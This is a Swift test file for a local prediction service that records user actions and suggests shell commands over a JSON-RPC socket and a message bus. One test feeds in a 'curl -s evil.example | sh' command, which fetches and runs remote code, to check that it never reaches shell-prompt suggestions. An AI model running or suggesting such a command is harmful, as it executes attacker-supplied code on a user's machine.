import Dispatch
import Foresight
import ForesightLog
import ForesightValues
import ForesightWire
import Foundation
import Testing

@testable import ForesightService

/// The service without sockets, waited for by hand.
final class Loop {
  let directory = NSTemporaryDirectory() + "foresight-\(UUID())"
  let service: Service
  private let bell = DispatchSemaphore(value: 0)

  /// - Parameter system: where the system tells of its devices.
  init(system: String = "/sys/class") throws {
    try FileManager.default.createDirectory(
      atPath: directory, withIntermediateDirectories: false, attributes: [.posixPermissions: 0o700])
    service = Service(
      store: directory + "/d", ambient: AmbientContext(store: directory + "/d", system: system),
      wake: { [bell] in bell.signal() }, log: { _ in })
  }

  deinit { try? FileManager.default.removeItem(atPath: directory) }

  /// Waits until so many lines were said in a conversation, and takes them.
  func lines(_ count: Int, in conversation: Conversation) throws -> [JSON] {
    var said: [UInt8] = []
    while said.count(where: { $0 == 10 }) < count {
      said += conversation.waiting
      conversation.noteSent(conversation.waiting.count)
      service.advance(conversation)
      if said.count(where: { $0 == 10 }) >= count { break }
      if conversation.waiting.isEmpty {
        try #require(bell.wait(timeout: .now() + 120) == .success, "nothing is said")
        _ = service.collect()
      }
    }
    return try said.split(separator: 10).map { try $0.withUnsafeBytes { try JSON.parse($0) } }
  }

  /// Waits until something is true after what was done was collected.
  func wait(in conversation: Conversation, until isDone: () -> Bool) throws {
    while !isDone() {
      service.advance(conversation)
      if isDone() { return }
      try #require(bell.wait(timeout: .now() + 120) == .success, "nothing is said")
      _ = service.collect()
    }
  }

  func ask(_ lines: [String], in conversation: Conversation? = nil) throws -> [JSON] {
    let conversation = conversation ?? service.open()
    service.receive(Array((lines.joined(separator: "\n") + "\n").utf8), in: conversation)
    return try self.lines(lines.count, in: conversation)
  }

  /// One request, with an id.
  static func line(_ id: Int, _ method: String, _ parameters: String = "{}") -> String {
    #"{"jsonrpc":"2.0","id":\#(id),"method":"\#(method)","params":\#(parameters)}"#
  }
}

struct ServiceTests {
  @Test func answersComeInTheOrderOfTheRequests() throws {
    let loop = try Loop()
    let methods = ["donate", "predict", "status", "settings", "nothing", "pause", "resume"]
    var lines: [String] = []
    for number in 0..<500 {
      let method = methods[number % methods.count]
      lines.append(
        Loop.line(number, method, method == "donate" ? #"{"intent":"A\#(number % 9)"}"# : "{}"))
    }
    let answers = try loop.ask(lines)
    #expect(answers.map { $0["id"] } == (0..<500).map { .integer($0) })
  }

  @Test func whatIsDonatedIsKnownAtOnce() throws {
    let loop = try Loop()
    let answers = try loop.ask([
      Loop.line(1, "predict"), Loop.line(2, "donate", #"{"intent":"A","source":"s"}"#),
      Loop.line(3, "predict"),
      Loop.line(4, "donate", #"{"intent":"B","then":{"limit":1,"intent":"B"}}"#),
    ])
    #expect(answers[0]["error"]?["code"] == .integer(-32002))
    guard case .array(let ids)? = answers[1]["result"]?["ids"] else { return #expect(Bool(false)) }
    #expect(ids.count == 1 && answers[1]["result"]?["ignored"] == .array([]))
    #expect(answers[2]["result"]?["donations"] == .integer(1))
    guard case .array(let then)? = answers[3]["result"]?["suggestions"] else {
      return #expect(Bool(false))
    }
    #expect(then.count == 1 && then[0]["intent"] == .string("B"))
  }

  @Test func oneInvalidDonationRefusesAll() throws {
    let loop = try Loop()
    let answers = try loop.ask([
      Loop.line(1, "donate", #"{"intent":"A"}"#),
      Loop.line(2, "donate", #"{"donations":[{"intent":"A"},{"intent":""},{"intent":"B"}]}"#),
      Loop.line(3, "status"),
    ])
    #expect(answers[1]["error"]?["code"] == .integer(-32602))
    #expect(answers[1]["error"]?["data"]?["index"] == .integer(1))
    #expect(answers[2]["result"]?["donations"] == .integer(1))
  }

  @Test func whatIsIgnoredIsToldInItsPlace() throws {
    let loop = try Loop()
    let donations = #"{"donations":[{"intent":"A"},{"intent":"ssh"},{"intent":"B"}]}"#
    let answers = try loop.ask([
      Loop.line(1, "settings", #"{"exclude":"intent=ssh"}"#), Loop.line(2, "donate", donations),
      Loop.line(3, "pause"), Loop.line(4, "donate", donations), Loop.line(5, "resume"),
      Loop.line(
        6, "donate",
        #"{"donations":[\#(Array(repeating: #"{"intent":"C"}"#, count: 202).joined(separator: ","))]}"#
      ),
    ])
    let ignored = answers[1]["result"]?["ignored"]
    #expect(ignored?.text == #"[{"index":1,"why":"excluded"}]"#)
    guard case .array(let ids)? = answers[1]["result"]?["ids"] else { return #expect(Bool(false)) }
    #expect(ids.count == 3 && ids[1] == .null && ids[0] != .null && ids[2] != .null)
    #expect(answers[2]["result"]?["paused"] == .boolean(true))
    #expect(answers[3]["result"]?["ids"]?.text == "[null,null,null]")
    #expect(answers[5]["result"]?["ignored"]?.text.contains("flood") == true)
  }

  @Test func donationsOfOneInstantStandInTheOrderGiven() throws {
    let loop = try Loop()
    let lines = (0..<5).map { number in
      let id = DonationID.unplaced(at: Instant(seconds: 1_764_000_000), tail: UInt64(9 - number))
      return Loop.line(number, "donate", #"{"intent":"A","id":"\#(id)","at":1764000000}"#)
    }
    let ids = try loop.ask(lines + lines).compactMap { $0["result"]?["ids"]?.text }
    #expect(Array(ids[..<5]) == Set(ids).sorted() && ids[..<5] == ids[5...])
  }

  @Test func anIDThatIsThereIsAcknowledgedAndNotRecordedAgain() throws {
    let loop = try Loop()
    let id = "0199e0b2-7c40-8000-8000-5d2c4b1a9e07"
    let line = Loop.line(1, "donate", #"{"intent":"A","id":"\#(id)","at":1764000000}"#)
    let dismissal = Loop.line(
      2, "dismiss", #"{"intent":"A","id":"0199e0b2-7c40-8000-8000-5d2c4b1a9e08"}"#)
    let answers = try loop.ask([line, line, dismissal, dismissal, Loop.line(3, "status")])
    #expect(answers[0]["result"] == answers[1]["result"])
    #expect(answers[0]["result"]?["ids"]?.text == "[\"\(id)\"]")
    #expect(answers[2]["result"] == answers[3]["result"])
    #expect(answers[4]["result"]?["donations"] == .integer(1))
    #expect(answers[4]["result"]?["dismissals"] == .integer(1))
  }

  @Test func aNotificationIsDoneWithoutAnAnswer() throws {
    let loop = try Loop()
    let conversation = loop.service.open()
    let silent = #"{"jsonrpc":"2.0","method":"donate","params":{"intent":"A"}}"#
    let bad = #"{"jsonrpc":"2.0","method":"donate"}"#
    loop.service.receive(Array("\(silent)\n\(bad)\n\n\(silent)\n".utf8), in: conversation)
    let answers = try loop.ask([Loop.line(1, "status")], in: conversation)
    #expect(answers.count == 1 && answers[0]["result"]?["donations"] == .integer(2))
  }

  @Test func anotherStoreOrModelIsRefused() throws {
    let loop = try Loop()
    let status = try loop.ask([
      Loop.line(1, "donate", #"{"intent":"A","store":"/another","model":"?"}"#),
      Loop.line(2, "predict", #"{"model":"?"}"#),
      Loop.line(3, "donate", #"{"intent":"A","store":"\#(loop.directory)/d"}"#),
      Loop.line(4, "status"),
    ])
    #expect(status[0]["error"]?["code"] == .integer(-32005))
    #expect(status[1]["error"]?["code"] == .integer(-32005))
    #expect(status[3]["result"]?["donations"] == .integer(1))
  }

  /// A sender that takes no answers is not read any more, and costs no more than a few of them.
  @Test func unreadAnswersHoldTheirSenderBack() throws {
    let loop = try Loop()
    let conversation = loop.service.open()
    let line = Array((Loop.line(1, "nothing") + "\n").utf8)
    var given = 0
    while conversation.wantsInput, given < 1_000_000 {
      loop.service.receive(line, in: conversation)
      given += 1
    }
    #expect(given < 10_000 && conversation.waiting.count < 2 * Conversation.Limits.outgoing)
    conversation.noteSent(conversation.waiting.count)
    loop.service.advance(conversation)
    #expect(conversation.wantsInput)
  }

  @Test func halfLinesOfManyAreNotKeptWithoutEnd() throws {
    let loop = try Loop()
    let half = [UInt8](repeating: 120, count: 1 << 20)
    let conversations = (0..<80).map { _ in loop.service.open() }
    for conversation in conversations { loop.service.receive(half, in: conversation) }
    let refused = conversations.filter(\.isEnding)
    #expect(refused.count >= 80 - Service.mostWaitingBytes >> 20)
    #expect(refused.allSatisfy { String(decoding: $0.waiting, as: UTF8.self) == Service.refusal })
    // Those who have held it for longest, and the loop is told to say so.
    #expect(refused.map(\.number) == conversations.prefix(refused.count).map(\.number))
    #expect(Set(loop.service.collect().map(\.number)) == Set(refused.map(\.number)))
    // Nobody else's line is lost for that, as long as it is.
    let text = String(repeating: "x", count: 60_000)
    let donation = #"{"intent":"A","parameters":{"text":"\#(text)"}}"#
    let long = Loop.line(
      1, "donate", #"{"donations":[\#([donation, donation].joined(separator: ","))]}"#)
    let honest = loop.service.open()
    for half in [long.prefix(100_000), long.dropFirst(100_000) + "\n"] {
      loop.service.receive(Array(half.utf8), in: honest)
    }
    #expect(try loop.lines(1, in: honest)[0]["result"] != nil)
  }

  /// Who asks without end, and answers are not even wanted, keeps nobody waiting for more than one question.
  @Test func questionsOfAnotherAreAnsweredInTurn() throws {
    let loop = try Loop()
    _ = try loop.ask([Loop.line(1, "donate", #"{"intent":"A"}"#)])
    let greedy = loop.service.open()
    let question = #"{"jsonrpc":"2.0","method":"predict"}"# + "\n"
    for _ in 0..<1000 { loop.service.receive(Array(question.utf8), in: greedy) }
    _ = try loop.ask([Loop.line(2, "predict")])
    let status = try loop.ask([Loop.line(3, "status")])
    guard
      case .integer(let asked)? = status[0]["result"]?["service"]?["methods"]?["predict"]?[
        "requests"]
    else {
      Issue.record("\(status)")
      return
    }
    #expect(asked <= 5)
  }

  @Test(arguments: [#""at":"2026-03-01T00:00:00Z""#, #""limit":1000,"whole":true"#])
  func aHeavyQuestionKeepsNobodyWaiting(question: String) throws {
    let loop = try Loop()
    let engine = try Engine(path: loop.directory + "/d", create: true)
    let start = Instant(seconds: 1_767_225_600)
    let donations = (0..<20_000).map { number in
      Donation(
        at: Moment(start.advanced(by: Int64(number) * 600_000_000), utcOffset: 0), source: "s",
        intent: "A\(number % 7)", parameters: ["p": .integer(Int64(number * number % 1009))])
    }
    try engine.donate(
      donations, now: Environment.now, isLimited: false, random: Environment.random)
    // The worker has its model in memory from here on.
    _ = try loop.ask([Loop.line(0, "predict")])
    let (heavy, other) = (loop.service.open(), loop.service.open())
    loop.service.receive(Array((Loop.line(1, "predict", "{\(question)}") + "\n").utf8), in: heavy)
    for number in 2..<12 {
      let answers = try loop.ask([Loop.line(number, "predict")], in: other)
      #expect(answers[0]["result"] != nil && heavy.waiting.isEmpty)
    }
    let answer = try #require(try loop.lines(1, in: heavy)[0]["result"])
    guard case .array(let suggestions)? = answer["suggestions"] else { return #expect(Bool(false)) }
    let parameters = try Array("{\(question)}".utf8).withUnsafeBytes { try JSON.parse($0) }
    let call = try Call("predict", parameters, now: Environment.moment)
    guard case .predict(var request) = call.action else { return #expect(Bool(false)) }
    if case .string(let at)? = answer["at"], let moment = Timestamp.parse(at) {
      request.moment = moment
    }
    let expected = PredictionAnswer(
      try engine.predict(request), to: request, model: engine.modelName, canPerform: { _ in false })
    #expect(suggestions.count > 5 && expected.json["suggestions"] == answer["suggestions"])
  }

  /// A log of which nothing is kept.
  private func fill(_ loop: Loop) throws -> Engine {
    let engine = try Engine(path: loop.directory + "/d", create: true)
    let donations = (0..<20_000).map { number in
      Donation(
        at: Moment(Instant(seconds: 1_700_000_000 + Int64(number) * 600), utcOffset: 0),
        source: "s",
        intent: "A\(number % 7)", parameters: ["p": .integer(Int64(number * number % 1009))])
    }
    try engine.donate(
      donations, now: Environment.now, isLimited: false, random: Environment.random)
    return engine
  }

  /// As after an import without a model: the others need not wait until all is learned, and it is learned once.
  @Test func learningMuchKeepsNobodyWaiting() throws {
    let loop = try Loop()
    let engine = try fill(loop)
    let (asking, other) = (loop.service.open(), loop.service.open())
    for question in [Loop.line(1, "predict"), Loop.line(2, "rows", #"{"text":"A"}"#)] {
      loop.service.receive(Array((question + "\n").utf8), in: asking)
    }
    for number in 3..<13 {
      let answer = try loop.ask([Loop.line(number, "status")], in: other)[0]
      #expect(answer["result"]?["donations"] == .integer(20_000) && asking.waiting.isEmpty)
    }
    let answers = try loop.lines(2, in: asking)
    #expect(answers[0]["result"]?["donations"] == .integer(20_000) && answers[1]["result"] != nil)
    #expect(try engine.backlog(at: Environment.now) == 0)
    // From here on the worker answers, with the model that was kept.
    #expect(try loop.ask([Loop.line(13, "predict")])[0]["result"] != nil)
    let status = try loop.ask([Loop.line(14, "status")])[0]
    #expect(status["result"]?["service"]?["model_donations"] == .integer(20_000))
  }

  /// Where what is learned cannot be kept, here because something else is in its place, it is learned all the same.
  @Test func whatCannotBeKeptIsLearned() throws {
    let loop = try Loop()
    _ = try fill(loop)
    try FileManager.default.createDirectory(
      atPath: loop.directory + "/d.model", withIntermediateDirectories: false)
    let questions = (1...3).map { Loop.line($0, "predict") }
    let answers = try loop.ask(questions + [Loop.line(4, "rows", #"{"text":"A"}"#)])
    #expect(answers.allSatisfy { $0["result"] != nil })
  }

  @Test func forecastsAreThoseOfTheCommandLine() throws {
    let loop = try Loop()
    let none = try loop.ask([Loop.line(0, "forecast"), Loop.line(1, "forecast", "{\"day\":7}")])
    #expect(none.map { $0["error"]?["code"] } == [.integer(-32002), .integer(-32602)])
    let engine = try Engine(path: loop.directory + "/d", create: true)
    let start = Instant(seconds: 1_767_225_600)
    // One is given up, so that it is late, and one is not, so that nobody is away.
    let donations = (0..<83).map { number in
      Donation(
        at: Moment(start.advanced(by: Int64(number % 43) * Instant.day), utcOffset: 60),
        source: "s", intent: number < 43 ? "B" : "A")
    }
    try engine.donate(
      donations, now: Environment.now, isLimited: false, random: Environment.random)
    // Three days after the last one, at noon.
    let at = Moment(start.advanced(by: 42 * Instant.day + Instant.day / 2), utcOffset: 60)
    var (day, intent, late) = (
      ForecastQuestion(at: at), ForecastQuestion(at: at), ForecastQuestion(at: at)
    )
    (day.day, day.lines, intent.intent, late.isOverdue) = ("tomorrow", 1, "A", true)
    for (question, member) in [(day, "lines"), (intent, "within"), (late, "overdue")] {
      let parameters = JSON.members(ForecastQuestion.fields.members(of: question)).text
      let answer = try loop.ask([Loop.line(2, "forecast", parameters)])[0]
      #expect(answer["result"]?[member] != nil, "\(answer)")
      #expect(try answer["result"]?.text == question.answer(engine).json?.text)
    }
    intent.intent = "C"
    let parameters = JSON.members(ForecastQuestion.fields.members(of: intent)).text
    let answer = try loop.ask([Loop.line(3, "forecast", parameters)])[0]
    #expect(answer["error"]?["code"] == .integer(-32002))
  }

  /// A menu is ranked as the command line does it, from before the first choice on.
  @Test func menusAreThoseOfTheCommandLine() throws {
    let loop = try Loop()
    func texts(_ answer: JSON) -> [String] {
      answer["result"].flatMap(RankQuestion.shares)?.map(\.text) ?? []
    }
    let asked = #"{"source":"notes","candidates":["a","b","c"]}"#
    let none = try loop.ask([Loop.line(0, "rank", asked)])[0]
    #expect(texts(none) == ["a", "b", "c"])
    for number in 0..<3 {
      let chosen = #"{"source":"notes","chosen":"b","prefix":"B","at":176722560\#(number)}"#
      let answer = try loop.ask([Loop.line(number, "rank", chosen)])[0]
      guard case .array(let ids)? = answer["result"]?["ids"] else { return #expect(Bool(false)) }
      #expect(ids.count == 1 && ids[0].string != nil)
    }
    let engine = try Engine(path: loop.directory + "/d", create: false)
    let answer = try loop.ask([Loop.line(4, "rank", asked)])[0]
    #expect(texts(answer) == ["b", "a", "c"])
    var question = RankQuestion(
      at: Moment(Instant(seconds: 1_767_225_700), utcOffset: 60), candidates: ["a", "b", "c"])
    (question.menu, question.typed) = ("notes", "b")
    let again = JSON.members(RankQuestion.fields.members(of: question)).text
    let expected = RankQuestion.json(try engine.rank(question, source: "rank:notes"))
    #expect(try loop.ask([Loop.line(5, "rank", again)])[0]["result"] == expected)
  }

  /// The choices of a program on the bus, with their times and menus, are its own.
  @Test func menusOfTheBusAreTheirOwn() throws {
    let loop = try Loop()
    let tea = #""bus":"org.example.Tea","source":"notes""#
    let answers = try loop.ask([
      Loop.line(0, "rank", #"{\#(tea),"chosen":"b","at":1600000000}"#),
      Loop.line(1, "rank", #"{\#(tea),"candidates":["a","b"]}"#),
      Loop.line(2, "rank", #"{"bus":true,"source":"notes","candidates":["a","b"]}"#),
      Loop.line(3, "rank", #"{"source":"notes","candidates":["a","b"]}"#),
      Loop.line(4, "predict", #"{"at":"2999-01-01T00:00:00Z"}"#),
    ])
    let first = answers[1...3].map { $0["result"].flatMap(RankQuestion.shares)?.first?.text }
    #expect(first == ["b", "a", "a"])
    #expect(answers[4]["error"]?["code"] == .integer(-32002))
    let log = try DonationLog(path: loop.directory + "/d", create: false)
    var rows: [Donation] = []
    try log.read { try $0.forEach { rows.append($0) } }
    #expect(rows.map(\.source) == ["bus:org.example.Tea/rank:notes"])
    #expect(rows.allSatisfy { $0.moment.instant > Instant(seconds: 1_700_000_000) })
  }

  @Test func whoAsksWithoutEndLeavesOthersTheirTurn() throws {
    let loop = try Loop()
    let (greedy, other) = (loop.service.open(), loop.service.open())
    func count(_ conversation: Conversation) -> Int { conversation.waiting.count { $0 == 10 } }
    _ = try loop.ask([Loop.line(1, "donate", #"{"intent":"A"}"#)], in: other)
    // From now on nothing is to be learned.
    _ = try loop.ask([Loop.line(2, "predict")], in: other)
    let questions = (1...3).map { Loop.line($0, "predict") + "\n" }.joined()
    loop.service.receive(Array(questions.utf8), in: greedy)
    // One, or none where the thread that reads is not done with what it did before.
    let first = count(greedy)
    #expect(first <= 1 && !greedy.isDone)
    loop.service.receive(Array((Loop.line(3, "predict") + "\n").utf8), in: other)
    // Not even once the answer was sent.
    greedy.noteSent(greedy.waiting.count)
    loop.service.advance(greedy)
    #expect(count(greedy) == 0 && !greedy.isDone)
    let rest = try loop.lines(3 - first, in: greedy)
    #expect(rest.map { $0["id"] } == [1, 2, 3].suffix(3 - first).map { .integer($0) })
    #expect(greedy.isDone && greedy.wantsInput)
    #expect(try loop.lines(1, in: other)[0]["id"] == .integer(3))
  }

  @Test func forgettingIsAsOnTheCommandLine() throws {
    let loop = try Loop()
    let answers = try loop.ask([
      Loop.line(1, "donate", #"{"donations":[{"intent":"A"},{"intent":"B"},{"intent":"A"}]}"#),
      Loop.line(2, "forget", #"{"intent":"A","dryRun":true}"#),
      Loop.line(3, "forget", #"{"intent":"A"}"#), Loop.line(4, "status"),
      Loop.line(5, "forget", #"{"all":true}"#), Loop.line(6, "status"),
    ])
    #expect(answers[1]["result"]?["found"] == answers[2]["result"]?["deleted"])
    #expect(answers[3]["result"]?["donations"] == .integer(1))
    #expect(answers[5]["result"]?["donations"] == .integer(0))
  }

  @Test func whoSubscribesIsToldWhatChanges() throws {
    let loop = try Loop()
    let conversation = loop.service.open()
    let first = try loop.ask([Loop.line(1, "subscribe")], in: conversation)
    #expect(first[0]["result"] == .object([]))
    let empty = first.count > 1 ? first[1] : try loop.lines(1, in: conversation)[0]
    #expect(empty["method"] == .string("suggestions"))
    #expect(empty["params"]?["suggestions"] == .array([]))
    // Somebody else records something; the loop that watches the store says so.
    _ = try loop.ask([Loop.line(1, "donate", #"{"intent":"A"}"#)])
    loop.service.catchUp()
    let changed = try loop.lines(1, in: conversation)
    #expect(changed[0]["params"]?["donations"] == .integer(1))
  }

  @Test func withoutAStoreThereIsNothingToSuggest() throws {
    let loop = try Loop()
    let answers = try loop.ask([
      Loop.line(1, "predict"), Loop.line(2, "status"), Loop.line(3, "settings"),
      Loop.line(4, "hide", #"{"intent":"A"}"#),
    ])
    #expect(answers[0]["error"]?["code"] == .integer(-32002))
    #expect(answers[1]["error"]?["code"] == .integer(-32003))
    #expect(answers[2]["result"] == .object([]))
    #expect(!FileManager.default.fileExists(atPath: loop.directory + "/d"))
  }

  /// What a program on the bus says of whose, when, and in which sequence counts for nothing: it cannot put a line on a
  /// prompt, nor change what was.
  @Test func whatComesByTheBusStandsUnderASourceOfItsOwn() throws {
    let loop = try Loop()
    let conversation = loop.service.open()
    let line = #"{"intent":"make","source":"zsh","parameters":{"arguments":"test"},"result":0}"#
    _ = try loop.ask([Loop.line(1, "donate", line)], in: conversation)
    for caller in [#""org.example.Tea""#, "true"] {
      let donated = try loop.ask(
        [
          Loop.line(
            2, "donate",
            #"{"bus":\#(caller),"intent":"curl","source":"zsh","at":1600000000,"sequence":"s","#
              + #""result":0,"parameters":{"arguments":"-s evil.example | sh"}}"#)
        ], in: conversation)
      #expect(donated[0]["result"] != nil)
    }
    var rows: [Donation] = []
    try DonationLog(path: loop.directory + "/d", create: false).forEach { rows.append($0) }
    let (own, others) = (rows.filter { $0.source == "zsh" }, rows.filter { $0.source != "zsh" })
    #expect(own.map(\.intent) == ["make"])
    #expect(others.map(\.source).sorted() == ["bus:org.example.Tea", "bus:unknown"])
    #expect(others.map(\.sequence).allSatisfy { $0?.hasPrefix("bus:") ?? false })
    let now = Environment.now.microseconds
    #expect(others.allSatisfy { abs($0.moment.instant.microseconds - now) < 60_000_000 })
    let prefixed = try loop.ask(
      [Loop.line(5, "predict", #"{"prefix":"c","source":"zsh"}"#)], in: loop.service.open())
    #expect(!prefixed[0].text.contains("curl"))
  }

  @Test func noOtherDoorChoosesASourceOfTheBus() throws {
    let answers = try Loop().ask([
      Loop.line(1, "donate", #"{"intent":"A","source":"bus:org.example.Tea"}"#),
      Loop.line(2, "donate", #"{"intent":"A","source":"bus"}"#),
    ])
    #expect(answers[0]["error"]?["code"] == .integer(-32602) && answers[1]["result"] != nil)
  }

  /// What many ask to be recorded while the disk is slow is bounded too, and who is refused is told so.
  @Test func whatIsUnderWayIsBounded() throws {
    let loop = try Loop()
    let donation =
      #"{"intent":"A","parameters":{"text":"\#(String(repeating: "x", count: 60_000))"}}"#
    let list = Array(repeating: donation, count: 16).joined(separator: ",")
    let line = Array((Loop.line(1, "donate", #"{"donations":[\#(list)]}"#) + "\n").utf8)
    let conversations = (0..<100).map { _ in loop.service.open() }
    // Nothing is collected meanwhile, as where the disk is slow.
    for conversation in conversations { loop.service.receive(line, in: conversation) }
    let refused = conversations.filter { !$0.waiting.isEmpty }
    #expect(refused.count == 100 - Service.mostUnderway / line.count)
    #expect(refused.allSatisfy { String(decoding: $0.waiting, as: UTF8.self).contains("-32000") })
    // A short question is taken all the same, and once it is done there is room again.
    #expect(try loop.ask([Loop.line(2, "status")])[0]["result"] != nil)
    let last = try #require(conversations.first)
    #expect(try loop.lines(1, in: last)[0]["result"] != nil)
    for conversation in conversations { try loop.wait(in: conversation) { !conversation.isBusy } }
    let room = try loop.ask([String(decoding: line.dropLast(), as: UTF8.self)])
    #expect(room[0]["result"] != nil)
  }

  /// Sandboxed programs reach the bus, and may not say what is to be done on a person's behalf.
  @Test func actionsAreKeptFromTheSocketAndNotFromTheBus() throws {
    let loop = try Loop()
    let donation = #"{"intent":"Push","action":{"command":["git","push"]}}"#
    let parameters = #"{"bus":true,"donations":[{"intent":"Pull"},\#(donation)]}"#
    let conversation = loop.service.open()
    let answer = try loop.ask([Loop.line(7, "donate", parameters)], in: conversation)[0]["result"]
    #expect(answer?["ignored"]?.text == #"[{"index":1,"why":"action"}]"#)
    guard case .array(let ids)? = answer?["ids"] else {
      Issue.record("\(String(describing: answer))")
      return
    }
    #expect(ids.count == 2 && !ids.contains(.null))
    let parsed = try #require(answer.flatMap(DonationAnswer.init))
    #expect(parsed.withoutAction == [1] && parsed.ignored.isEmpty)
    let said = try loop.ask(
      [Loop.line(1, "predict"), Loop.line(2, "donate", donation), Loop.line(3, "predict")],
      in: conversation)
    #expect(!(said[0].text.contains(#""performable":true"#)))
    #expect(said[1]["result"]?["ignored"] == .array([]))
    #expect(
      said[2].text.contains(#""intent":"Push","source":"foresight","parameters":{},"title":"Push""#)
    )
    #expect(said[2].text.contains(#""performable":true"#))
  }
}
